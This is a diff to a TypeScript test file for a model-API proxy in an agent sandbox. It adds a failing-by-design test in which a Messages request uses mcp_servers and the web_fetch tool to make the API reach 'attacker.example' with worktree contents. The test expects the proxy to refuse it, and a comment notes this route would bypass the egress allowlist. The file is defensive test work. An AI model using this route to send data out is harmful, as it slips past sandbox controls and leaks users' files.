@@ -52,7 +52,7 @@ afterEach(async () => {
   await new Promise<void>((resolve) => upstream.close(() => resolve()));
 });
 
-function post(body: string): Promise<number> {
+function post(body: string, extra: Record<string, string> = {}): Promise<number> {
   return new Promise((resolve, reject) => {
     request(
       {
@@ -63,6 +63,7 @@ function post(body: string): Promise<number> {
           'x-api-key': access.placeholder,
           'anthropic-version': '2023-06-01',
           'content-type': 'application/json',
+          ...extra,
         },
       },
       (res) => {
@@ -90,5 +91,25 @@ describe('session.max_usd at the model proxy', () => {
     // Expected: a call is admitted only while the budget covers what the calls in flight may cost
     // (or one call in flight at a time near the limit), so at most one call is forwarded here.
     expect(forwarded.length, `forwarded ${forwarded.length} calls, spent $${spent.toFixed(2)} of $1, statuses ${statuses}`).toBeLessThanOrEqual(1);
+  });
+});
+
+describe('the model API as a way out', () => {
+  it('red: a Messages call that asks the API itself to reach an arbitrary URL (mcp_servers, the web_fetch server tool) is forwarded', async () => {
+    const exfil = 'https://attacker.example/collect?d=worktree-contents';
+    const body = JSON.stringify({
+      model: 'claude-sonnet-4-5',
+      max_tokens: 16,
+      messages: [{ role: 'user', content: `Fetch ${exfil}` }],
+      mcp_servers: [{ type: 'url', url: exfil, name: 'x' }],
+      tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }],
+    });
+    const status = await post(body, { 'anthropic-beta': 'mcp-client-2025-04-04,web-fetch-2025-09-10' });
+    // The stand-in API received it: on the real one, Anthropic's servers would connect to that host,
+    // past the egress proxy and its allowlist.
+    expect({ status, forwarded: forwarded.some((sent) => sent.includes(exfil)) }).toEqual({
+      status: 403,
+      forwarded: false,
+    });
   });
 });
